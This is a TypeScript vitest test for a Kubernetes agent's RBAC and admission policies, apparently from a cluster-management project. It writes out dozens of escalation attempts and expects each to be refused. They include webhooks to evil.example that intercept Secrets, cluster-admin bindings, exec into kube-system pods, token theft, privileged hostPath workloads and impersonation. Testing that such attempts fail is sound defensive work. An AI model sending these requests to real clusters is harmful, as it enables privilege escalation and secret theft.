import { request } from 'node:https';
import { type KubeApi, kubeApi } from '@home-base/dev/kube/api-client.ts';
import type { ControlPlane } from '@home-base/dev/kube/control-plane.ts';
import { pollUntil } from '@home-base/dev/process/poll.ts';
import { type Resource, resourceKey } from '@home-base/schema/kube/resource.ts';
import { stageOf } from '@home-base/schema/kube/stage.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { defaultAllowedNamespaces, renderAgentManifest } from './agent-manifest.ts';
import { providers } from './define.ts';
import { render } from './materialize.ts';
import { kitchenSink } from './sample-summary.ts';
import { apply, applyDefinitions, byStage, definitions, inParallel, isAccepted, pathOf, startCluster } from './testing/cluster.ts';

let cluster: ControlPlane;
let agent: KubeApi;

const rbac = 'rbac.authorization.k8s.io/v1';
const roleOf = (name: string, rules: object[], labels = {}): Resource => ({
  apiVersion: rbac,
  kind: 'ClusterRole',
  metadata: { name, labels },
  rules,
});
const bindingOf = (name: string, role: string, subject: object): Resource => ({
  apiVersion: rbac,
  kind: 'ClusterRoleBinding',
  metadata: { name },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
  subjects: [subject],
});
const operator = { kind: 'ServiceAccount', name: 'cloudnative-pg', namespace: 'battery-core' };
const configMap = (namespace: string, name: string): Resource => ({
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name, namespace },
  data: { a: 'b' },
});

beforeAll(async () => {
  cluster = await startCluster();
  const manifest = renderAgentManifest({
    homeBaseUrl: 'https://home-base.example',
    image: 'registry.example/agent:1',
    token: 'enrol',
    rootSha256: 'a'.repeat(64),
    // And one that no battery makes.
    allowedNamespaces: [...defaultAllowedNamespaces, 'battery-new'],
  });
  for (const resource of manifest) {
    const answer = await apply(cluster.api, resource, { manager: 'admin' });
    if (!isAccepted(answer)) throw new Error(`${resourceKey(resource)}: ${answer.message}`);
  }
  agent = kubeApi({ url: cluster.url, caPem: cluster.caPem, token: await tokenOf('home-base', 'agent') });
  await policiesHold();
});

afterAll(async () => {
  agent?.close();
  await cluster?.stop();
});

async function tokenOf(namespace: string, name: string): Promise<string> {
  const { status, body } = await cluster.api.send('POST', `/api/v1/namespaces/${namespace}/serviceaccounts/${name}/token`, {
    apiVersion: 'authentication.k8s.io/v1',
    kind: 'TokenRequest',
    spec: {},
  });
  if (status !== 201) throw new Error(`no token for ${namespace}/${name}: ${body}`);
  return z.object({ status: z.object({ token: z.string() }) }).parse(JSON.parse(body)).status.token;
}

const podSpec = (more: object = {}) => ({ containers: [{ name: 'a', image: 'a' }], ...more });
const inContainer = (securityContext: object) => podSpec({ containers: [{ name: 'a', image: 'a', securityContext }] });

function workload(kind: 'DaemonSet' | 'Deployment' | 'StatefulSet', spec: object, name = 'evil', namespace = 'battery-ai'): Resource {
  const labels = { a: 'b' };
  const service = kind === 'StatefulSet' ? { serviceName: 'a' } : {};
  return {
    apiVersion: 'apps/v1',
    kind,
    metadata: { name, namespace },
    spec: { ...service, selector: { matchLabels: labels }, template: { metadata: { labels }, spec } },
  };
}

const namespaceOf = (name: string, levels: Record<string, string>): Resource => ({
  apiVersion: 'v1',
  kind: 'Namespace',
  metadata: {
    name,
    labels: Object.fromEntries(Object.entries(levels).map(([key, value]) => [`pod-security.kubernetes.io/${key}`, value])),
  },
});

/** The API server reads new policies after a moment: each has to have refused something once. */
async function policiesHold(): Promise<void> {
  const probes: [string, Resource][] = [
    ['home-base-agent-namespaces', configMap('default', 'probe')],
    ['home-base-agent-rbac', roleOf('cloudnative-pg', [], { 'rbac.authorization.k8s.io/aggregate-to-view': 'true' })],
  ];
  await apply(cluster.api, namespaceOf('battery-ai', { enforce: 'baseline' }), { manager: 'admin' });
  probes.push(
    ['home-base-agent-workloads', workload('DaemonSet', podSpec({ hostPID: true }))],
    ['home-base-agent-pod-security', namespaceOf('battery-ai', { enforce: 'privileged' })],
  );
  for (const [policy, resource] of probes)
    await pollUntil(
      `the policy ${policy} holding`,
      async () => ((await apply(agent, resource, { dryRun: true })).message.includes(policy) ? true : undefined),
      { timeoutMs: 60_000 },
    );
}

function everything(): Resource[] {
  const all = new Map<string, Resource>();
  for (const provider of providers)
    for (const resource of render({
      summary: kitchenSink({ usage: 'kitchen_sink', provider, size: 'small', full: true }),
    }).resources)
      all.set(resourceKey(resource), resource);
  return byStage(all.values());
}

describe('what the agent needs', () => {
  it('applies every definition and every resource of every battery and object, twice', async () => {
    await applyDefinitions(agent, (await definitions()).resources);
    const refused: string[] = [];
    for (const round of [1, 2])
      for (const stage of [0, 1, 2, 3, 4, 5])
        await inParallel(
          everything().filter((resource) => stageOf(resource) === stage),
          async (resource) => {
            const answer = await apply(agent, resource, { manager: 'home-base-agent' });
            if (!isAccepted(answer)) refused.push(`round ${round} ${resourceKey(resource)}: ${answer.status} ${answer.message}`);
          },
        );
    expect(refused).toEqual([]);
  });

  it('keeps its state, reads its facts, and lets go of kept definitions', async () => {
    for (const name of ['agent-state-0', 'agent-state-keys']) {
      expect(await apply(agent, configMap('home-base', name))).toMatchObject({ message: '' });
      expect((await agent.send('DELETE', `/api/v1/namespaces/home-base/configmaps/${name}`)).status).toBe(200);
      expect(
        isAccepted(await apply(agent, { apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace: 'home-base' }, type: 'Opaque' })),
      ).toBe(true);
    }
    // The API server answers 429 for a moment where a definition is new.
    for (const path of [
      '/api/v1/nodes',
      '/api/v1/pods',
      '/api/v1/events',
      '/apis/storage.k8s.io/v1/storageclasses',
      '/apis/cert-manager.io/v1/clusterissuers',
      '/apis/postgresql.cnpg.io/v1/backups',
      '/apis/discovery.k8s.io/v1/endpointslices',
      '/api/v1/namespaces/kube-system',
      '/version',
      '/apis',
      '/openapi/v3',
    ])
      await pollUntil(`${path} being read`, async () => ((await agent.send('GET', path)).status === 200 ? true : undefined), {
        timeoutMs: 20_000,
      });
    const bgppeers = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/bgppeers.metallb.io';
    expect(
      (await agent.send('PATCH', bgppeers, { spec: { conversion: { strategy: 'None', webhook: null } } }, 'application/merge-patch+json'))
        .status,
    ).toBe(200);
  });
});

describe('what nobody can make the agent do', () => {
  type Attack = [name: string, run: () => Promise<{ status: number; message?: string; body?: string }>];
  const patch = (path: string, body: object) => agent.send('PATCH', path, body, 'application/merge-patch+json');

  /** A binding's role cannot change, so the one there has to go first. */
  const bindAnew = async (role: string) => {
    await agent.send('DELETE', `/apis/${rbac}/clusterrolebindings/redis-operator`);
    return apply(agent, bindingOf('redis-operator', role, operator));
  };

  const webhook = (name: string, apiGroups: string[], resources: string[], kind = 'MutatingWebhookConfiguration') =>
    apply(agent, {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind,
      metadata: { name },
      webhooks: [
        {
          name: 'a.evil.example',
          admissionReviewVersions: ['v1'],
          sideEffects: 'None',
          clientConfig: { url: 'https://evil.example' },
          rules: [{ apiGroups, apiVersions: ['*'], operations: ['CREATE'], resources }],
        },
      ],
    });

  const attacks: Attack[] = [
    ['change every resource by a webhook of a name it may write', () => webhook('cert-manager-webhook', ['*'], ['*'])],
    ['change pods everywhere by the webhook of the AWS controller', () => webhook('aws-load-balancer-webhook', [''], ['pods'])],
    ['change bindings by a webhook', () => webhook('cert-manager-webhook', ['rbac.authorization.k8s.io'], ['clusterrolebindings'])],
    ['read new Secrets by a webhook', () => webhook('istio-validator', [''], ['secrets'], 'ValidatingWebhookConfiguration')],
    ['bind cluster-admin under a name it may write', () => bindAnew('cluster-admin')],
    [
      'bind admin in one of its namespaces',
      () => apply(agent, { ...bindingOf('x', 'admin', operator), kind: 'RoleBinding', metadata: { name: 'x', namespace: 'battery-core' } }),
    ],
    ['make a binding of another name', () => apply(agent, bindingOf('evil', 'cloudnative-pg', operator))],
    [
      'bind a role to every user',
      () =>
        apply(
          agent,
          bindingOf('cloudnative-pg', 'cloudnative-pg', {
            kind: 'Group',
            apiGroup: 'rbac.authorization.k8s.io',
            name: 'system:authenticated',
          }),
        ),
    ],
    [
      'bind a role to an account outside its namespaces',
      () =>
        apply(agent, bindingOf('cloudnative-pg', 'cloudnative-pg', { kind: 'ServiceAccount', name: 'default', namespace: 'kube-system' })),
    ],
    ['bind its own role to another account', () => bindAnew('home-base-agent')],
    [
      'write all verbs into a role it may write',
      () => apply(agent, roleOf('cloudnative-pg', [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }])),
    ],
    [
      'write escalate into a role',
      () =>
        apply(
          agent,
          roleOf('cloudnative-pg', [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['escalate'] }]),
        ),
    ],
    [
      'write bind into a role',
      () =>
        apply(
          agent,
          roleOf('cloudnative-pg', [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['bind'] }]),
        ),
    ],
    [
      'write a right that it does not hold into a role',
      () => apply(agent, roleOf('cloudnative-pg', [{ apiGroups: [''], resources: ['nodes'], verbs: ['create'] }])),
    ],
    [
      'gather other roles into one',
      () =>
        apply(agent, {
          ...roleOf('cloudnative-pg', []),
          rules: null,
          aggregationRule: { clusterRoleSelectors: [{ matchLabels: { a: 'b' } }] },
        }),
    ],
    [
      "have a role gathered into Kubernetes' own",
      () =>
        apply(
          agent,
          roleOf('cloudnative-pg', [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }], {
            'rbac.authorization.k8s.io/aggregate-to-view': 'true',
          }),
        ),
    ],
    ['widen its own role', () => apply(agent, roleOf('home-base-agent', [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }]))],
    ['make a role by POST', () => agent.send('POST', `/apis/${rbac}/clusterroles`, roleOf('cloudnative-pg', []))],
    [
      'remove a policy that binds it',
      () => agent.send('DELETE', '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/home-base-agent-rbac'),
    ],
    [
      'loosen a policy binding',
      () =>
        patch('/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/home-base-agent-namespaces', {
          spec: { validationActions: ['Audit'] },
        }),
    ],
    ['write into kube-system', () => apply(agent, configMap('kube-system', 'evil'))],
    [
      'run a workload in the default namespace',
      () =>
        apply(agent, {
          apiVersion: 'batch/v1',
          kind: 'Job',
          metadata: { name: 'evil', namespace: 'default' },
          spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: 'a' }] } } },
        }),
    ],
    [
      'make a role in kube-system',
      () =>
        apply(agent, {
          apiVersion: rbac,
          kind: 'Role',
          metadata: { name: 'evil', namespace: 'kube-system' },
          rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }],
        }),
    ],
    ['make a namespace of another name', () => apply(agent, { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'evil' } })],
    ['relabel kube-system', () => patch('/api/v1/namespaces/kube-system', { metadata: { labels: { a: 'b' } } })],
    ['delete a namespace that is not its own', () => agent.send('DELETE', '/api/v1/namespaces/default')],
    [
      'intercept every request of the cluster',
      () =>
        apply(agent, {
          apiVersion: 'admissionregistration.k8s.io/v1',
          kind: 'MutatingWebhookConfiguration',
          metadata: { name: 'evil' },
          webhooks: [],
        }),
    ],
    [
      "change another's definition",
      () => patch('/apis/apiextensions.k8s.io/v1/customresourcedefinitions/theirs.example.com', { metadata: { labels: { a: 'b' } } }),
    ],
    [
      "remove another's definition",
      () => agent.send('DELETE', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/theirs.example.com'),
    ],
    [
      "change another's issuer, through a right it holds for an operator",
      () => patch('/apis/cert-manager.io/v1/clusterissuers/theirs', { spec: { selfSigned: {} } }),
    ],
    [
      'swap its own image',
      () =>
        patch('/apis/apps/v1/namespaces/home-base/deployments/agent', {
          spec: { template: { spec: { containers: [{ name: 'agent', image: 'evil' }] } } },
        }),
    ],
    [
      'overwrite its own enrolment',
      () =>
        apply(agent, {
          apiVersion: 'v1',
          kind: 'Secret',
          metadata: { name: 'agent-enrolment', namespace: 'home-base' },
          stringData: { token: 'evil' },
        }),
    ],
    [
      'run a shell in a pod of kube-system',
      () => agent.send('POST', '/api/v1/namespaces/kube-system/pods/any/exec?command=id&stdout=true'),
    ],
    [
      'take a token of an account of kube-system',
      () =>
        agent.send('POST', '/api/v1/namespaces/kube-system/serviceaccounts/cert-manager/token', {
          apiVersion: 'authentication.k8s.io/v1',
          kind: 'TokenRequest',
          spec: {},
        }),
    ],
    [
      'take a token of its own account for ever',
      () =>
        agent.send('POST', '/api/v1/namespaces/home-base/serviceaccounts/agent/token', {
          apiVersion: 'authentication.k8s.io/v1',
          kind: 'TokenRequest',
          spec: {},
        }),
    ],
    [
      'approve a certificate',
      () =>
        patch('/apis/certificates.k8s.io/v1/certificatesigningrequests/any/approval', {
          status: { conditions: [{ type: 'Approved', status: 'True', reason: 'x' }] },
        }),
    ],
    [
      'mount a disk of a node',
      () => apply(agent, { apiVersion: 'storage.k8s.io/v1', kind: 'StorageClass', metadata: { name: 'evil' }, provisioner: 'x' }),
    ],
    ...(['hostPID', 'hostIPC', 'hostNetwork'] as const).map(
      (power): Attack => [`run a DaemonSet with ${power}`, () => apply(agent, workload('DaemonSet', podSpec({ [power]: true })))],
    ),
    ['run a privileged DaemonSet', () => apply(agent, workload('DaemonSet', inContainer({ privileged: true })))],
    [
      'run a privileged init container',
      () =>
        apply(
          agent,
          workload('Deployment', podSpec({ initContainers: [{ name: 'b', image: 'b', securityContext: { privileged: true } }] })),
        ),
    ],
    [
      'mount the file system of a node',
      () => apply(agent, workload('StatefulSet', podSpec({ volumes: [{ name: 'host', hostPath: { path: '/' } }] }))),
    ],
    ['add a capability', () => apply(agent, workload('Deployment', inContainer({ capabilities: { add: ['SYS_ADMIN'] } })))],
    [
      'run as a process of a Windows node',
      () =>
        patch('/apis/apps/v1/namespaces/battery-base/daemonsets/metallb-speaker', {
          spec: { template: { spec: { securityContext: { windowsOptions: { hostProcess: true, runAsUserName: 'a' } } } } },
        }),
    ],
    [
      'run a privileged CronJob',
      () =>
        apply(agent, {
          apiVersion: 'batch/v1',
          kind: 'CronJob',
          metadata: { name: 'evil', namespace: 'battery-ai' },
          spec: {
            schedule: '* * * * *',
            jobTemplate: { spec: { template: { spec: { ...inContainer({ privileged: true }), restartPolicy: 'Never' } } } },
          },
        }),
    ],
    [
      'run a Job in the namespaces of the host',
      () =>
        apply(agent, {
          apiVersion: 'batch/v1',
          kind: 'Job',
          metadata: { name: 'evil', namespace: 'battery-ai' },
          spec: { template: { spec: podSpec({ restartPolicy: 'Never', hostPID: true }) } },
        }),
    ],
    [
      'run a bare pod with the file system of a node where pod security allows it',
      () =>
        agent.send('POST', '/api/v1/namespaces/battery-base/pods', {
          apiVersion: 'v1',
          kind: 'Pod',
          metadata: { name: 'evil' },
          spec: podSpec({ serviceAccountName: 'metallb-speaker', volumes: [{ name: 'host', hostPath: { path: '/' } }] }),
        }),
    ],
    [
      "give MetalLB's speaker more than raw sockets",
      () =>
        patch('/apis/apps/v1/namespaces/battery-base/daemonsets/metallb-speaker', {
          spec: { template: { spec: inContainer({ capabilities: { add: ['NET_RAW', 'SYS_ADMIN'] } }) } },
        }),
    ],
    [
      'turn a workload that is there into a privileged one',
      () => patch('/apis/apps/v1/namespaces/battery-base/daemonsets/metallb-speaker', { spec: { template: { spec: { hostPID: true } } } }),
    ],
    ['take the pod security from a namespace', () => apply(agent, namespaceOf('battery-ai', { enforce: 'privileged' }))],
    ['make a namespace without pod security', () => apply(agent, namespaceOf('battery-new', {}))],
    ['loosen the pod security of the core namespace', () => apply(agent, namespaceOf('battery-core', { enforce: 'baseline' }))],
    [
      'enforce the pod security of long ago',
      () => apply(agent, namespaceOf('battery-ai', { enforce: 'baseline', 'enforce-version': 'v1.0' })),
    ],
    // It holds these rights because it hands them to Karpenter.
    ['delete a node', () => agent.send('DELETE', '/api/v1/nodes/theirs')],
    [
      'close a node to pods',
      () => agent.send('PATCH', '/api/v1/nodes/theirs', { spec: { unschedulable: true } }, 'application/merge-patch+json'),
    ],
    ["delete a pod of somebody else's", () => agent.send('DELETE', '/api/v1/namespaces/kube-system/pods/theirs')],
    [
      "evict a pod of somebody else's",
      () =>
        agent.send('POST', '/api/v1/namespaces/kube-system/pods/theirs/eviction', {
          apiVersion: 'policy/v1',
          kind: 'Eviction',
          metadata: { name: 'theirs', namespace: 'kube-system' },
        }),
    ],
  ];

  beforeAll(async () => {
    // What the attacks aim at is there, so that a refusal is not merely "not found".
    const theirs = {
      group: 'example.com',
      scope: 'Namespaced',
      names: { kind: 'Their', plural: 'theirs' },
      versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object' } } }],
    };
    const targets: Resource[] = [
      { apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition', metadata: { name: 'theirs.example.com' }, spec: theirs },
      { apiVersion: 'cert-manager.io/v1', kind: 'ClusterIssuer', metadata: { name: 'theirs' }, spec: { selfSigned: {} } },
      { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'cert-manager', namespace: 'kube-system' } },
    ];
    for (const target of targets) expect(await apply(cluster.api, target), resourceKey(target)).toMatchObject({ message: '' });
    const pod = podSpec({ serviceAccountName: 'cert-manager', automountServiceAccountToken: false });
    for (const [path, kind, spec] of [
      ['/api/v1/nodes', 'Node', {}],
      ['/api/v1/namespaces/kube-system/pods', 'Pod', pod],
    ] as const)
      expect((await cluster.api.send('POST', path, { apiVersion: 'v1', kind, metadata: { name: 'theirs' }, spec })).status, path).toBe(201);
    const issuer = () => patch('/apis/cert-manager.io/v1/clusterissuers/theirs?dryRun=All', { metadata: { labels: { a: 'b' } } });
    await pollUntil(
      'the policy home-base-agent-cluster holding',
      async () => ((await issuer()).body.includes('home-base-agent-cluster') ? true : undefined),
      { timeoutMs: 60_000 },
    );
  });

  it.each(attacks)('refuses to %s', async (_name, run) => {
    const { status, message, body } = await run();
    expect(status, message ?? body).toBe(403);
  });

  it('refuses to pass rights on to an account that no limit holds for', async () => {
    // What a thief writes: a role with what the agent holds, bound to an account whose pods he writes too.
    const rules = [{ apiGroups: [''], resources: ['pods', 'pods/exec', 'secrets'], verbs: ['create', 'patch'] }];
    expect((await apply(agent, roleOf('cloudnative-pg', rules))).message).not.toContain('forbidden');
    for (const namespace of ['battery-base', 'kube-system'])
      await apply(
        cluster.api,
        { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'default', namespace } },
        { manager: 'admin' },
      );
    const thief = kubeApi({ url: cluster.url, caPem: cluster.caPem, token: await tokenOf('battery-core', 'cloudnative-pg') });
    const post = (path: string, spec: object = {}) =>
      thief.send('POST', `/api/v1/namespaces/${path}`, { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'thief' }, spec });
    const plain = podSpec({ automountServiceAccountToken: false });
    const secret = (type: string) =>
      thief.send('POST', '/api/v1/namespaces/kube-system/secrets?dryRun=All', {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: 'thief', annotations: { 'kubernetes.io/service-account.name': 'default' } },
        type,
      });
    const answers = {
      certificate: await secret('Opaque'),
      token: await secret('kubernetes.io/service-account-token'),
      inOwn: await post('battery-base/pods?dryRun=All', plain),
      inSystem: await post('kube-system/pods?dryRun=All', plain),
      intoSystem: await post('kube-system/pods/theirs/exec?command=sh&stdout=true'),
      privileged: await post('battery-base/pods?dryRun=All', { ...plain, ...inContainer({ privileged: true }) }),
    };
    thief.close();
    expect(answers.certificate.status, answers.certificate.body).toBe(201);
    expect(answers.token.body).toContain('home-base-agent-accounts');
    expect(answers.inOwn.status, answers.inOwn.body).toBe(201);
    expect(answers.inSystem.body).toContain('home-base-agent-accounts');
    expect(answers.intoSystem.body).toContain('home-base-agent-accounts');
    expect(answers.privileged.body).toContain('home-base-agent-account-workloads');
  });

  it('refuses to act as somebody else', async () => {
    const { status } = await fetchAs('system:admin');
    expect(status).toBe(403);
  });
});

describe('and at the end', () => {
  it('removes what it made', async () => {
    const refused: string[] = [];
    // The namespaces stay: without a namespace controller they would terminate for ever and refuse what the attacks write.
    for (const resource of everything()
      .reverse()
      .filter(({ kind }) => kind !== 'Namespace')) {
      const { status, body } = await agent.send('DELETE', pathOf(resource));
      // An attack took one away already.
      if (![200, 202, 404].includes(status)) refused.push(`${resourceKey(resource)}: ${status} ${body}`);
    }
    expect(refused).toEqual([]);
    expect((await agent.send('DELETE', '/api/v1/namespaces/battery-ai?dryRun=All')).status).toBe(200);
  });
});

/** The plain client sends no such header, so this is a request of its own. */
async function fetchAs(user: string): Promise<{ status: number }> {
  const token = await tokenOf('home-base', 'agent');
  return new Promise((resolve, reject) => {
    const req = request(
      new URL('/api/v1/secrets', cluster.url),
      { ca: cluster.caPem, headers: { authorization: `Bearer ${token}`, 'impersonate-user': user } },
      (res) => {
        res.resume();
        resolve({ status: res.statusCode ?? 0 });
      },
    );
    req.on('error', reject);
    req.end();
  });
}
